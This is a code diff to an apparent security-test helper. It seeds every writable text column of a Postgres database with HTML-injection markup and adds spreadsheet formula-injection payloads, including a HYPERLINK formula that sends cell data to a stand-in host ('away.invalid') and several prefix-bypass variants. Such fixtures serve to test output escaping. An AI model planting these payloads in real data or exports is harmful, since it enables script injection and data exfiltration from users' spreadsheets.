@@ -23,6 +23,11 @@ export const markup: readonly string[] = [
 /** The same for a text that takes no more. */
 export const shortMarkup = '"><b data-ran onclick=__ran()>';
 
+/** What a spreadsheet runs where a cell begins with it. */
+export const formulas: readonly string[] = [
+  ...['=HYPERLINK("//away.invalid/"&A1)', '+1+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '"=1"&"'],
+];
+
 // Columns that are no words: what the program makes, reads as something else, or finds records by.
 const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
   ...{ idempotency_keys: 'all', rate_limits: 'all', staff_sessions: 'all', card_events: 'all', password_links: 'all' },
@@ -45,6 +50,27 @@ const noWords: Readonly<Record<string, readonly string[] | 'all'>> = {
 
 /** Puts markup at the end of every text of a database that people may write; the columns that took it. */
 export async function writeMarkup(client: pg.ClientBase): Promise<string[]> {
+  const written = await writeEverywhere(client, [[markup.join('')], markup, [shortMarkup]], (column, text) => {
+    return `${column} || ${text}`;
+  });
+  await client.query(`update kitchen_lines set told = jsonb_set(told, '{name}', to_jsonb(told->>'name' || $1::text))`, [
+    markup.join(''),
+  ]);
+  return written;
+}
+
+/** Puts formulas at the beginning of each of these texts; the columns that took them. */
+export function writeFormulas(client: pg.ClientBase): Promise<string[]> {
+  return writeEverywhere(client, [formulas, ['=1']], (column, text) => `${text} || ${column}`);
+}
+
+type Change = (column: string, text: string) => string;
+
+async function writeEverywhere(
+  client: pg.ClientBase,
+  pieces: readonly (readonly string[])[],
+  change: Change,
+): Promise<string[]> {
   const { rows } = await client.query<{ table: string; column: string }>(
     `select table_name as table, column_name as column from information_schema.columns
      join information_schema.tables using (table_schema, table_name)
@@ -53,24 +79,27 @@ export async function writeMarkup(client: pg.ClientBase): Promise<string[]> {
   const written: string[] = [];
   for (const { table, column } of rows) {
     const excepted = noWords[table] ?? [];
-    if (excepted !== 'all' && !excepted.includes(column) && (await writeIn(client, table, column)) > 0)
-      written.push(`${table}.${column}`);
+    if (excepted === 'all' || excepted.includes(column)) continue;
+    if ((await writeIn(client, table, column, pieces, change)) > 0) written.push(`${table}.${column}`);
   }
-  await client.query(`update kitchen_lines set told = jsonb_set(told, '{name}', to_jsonb(told->>'name' || $1::text))`, [
-    markup.join(''),
-  ]);
   return written;
 }
 
-/** In how many rows a column took it: all of it where there is room, else another piece in each row. */
-async function writeIn(client: pg.ClientBase, table: string, column: string): Promise<number> {
-  for (const texts of [[markup.join('')], markup, [shortMarkup]]) {
-    const change = client.query(
-      `update "${table}" set "${column}" = "${column}" || ($1::text[])[1 + abs(hashtext(ctid::text)) % $2]
-       where "${column}" is not null`,
+/** In how many rows a column took one of these lists, a piece of it in each row: the first list that has room. */
+async function writeIn(
+  client: pg.ClientBase,
+  table: string,
+  column: string,
+  pieces: readonly (readonly string[])[],
+  change: Change,
+): Promise<number> {
+  for (const texts of pieces) {
+    const piece = '($1::text[])[1 + abs(hashtext(ctid::text)) % $2]';
+    const changing = client.query(
+      `update "${table}" set "${column}" = ${change(`"${column}"`, piece)} where "${column}" is not null`,
       [texts, texts.length],
     );
-    const changed = await change.then(
+    const changed = await changing.then(
       ({ rowCount }) => rowCount ?? 0,
       () => undefined,
     );
